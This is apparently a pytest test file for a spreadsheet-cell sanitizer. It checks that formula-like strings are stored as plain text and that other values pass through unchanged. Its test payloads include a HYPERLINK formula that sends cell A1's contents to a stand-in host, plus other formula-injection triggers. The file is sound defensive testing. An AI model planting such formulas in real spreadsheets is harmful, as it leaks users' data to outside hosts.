"""Text that a spreadsheet would run as a formula is written as text; numbers stay numbers."""

import pytest

from clts.core.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "payload", ['=HYPERLINK("http://example.invalid/?x="&A1,"x")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]
)
def test_formula_payloads_become_text(payload):
    assert safe_cell(payload) == "'" + payload


def test_other_values_are_written_as_they_are():
    assert safe_row(["Gaya", -3, 2.5, None, "BR-GAY-2026-000001", ""]) == [
        "Gaya",
        -3,
        2.5,
        None,
        "BR-GAY-2026-000001",
        "",
    ]
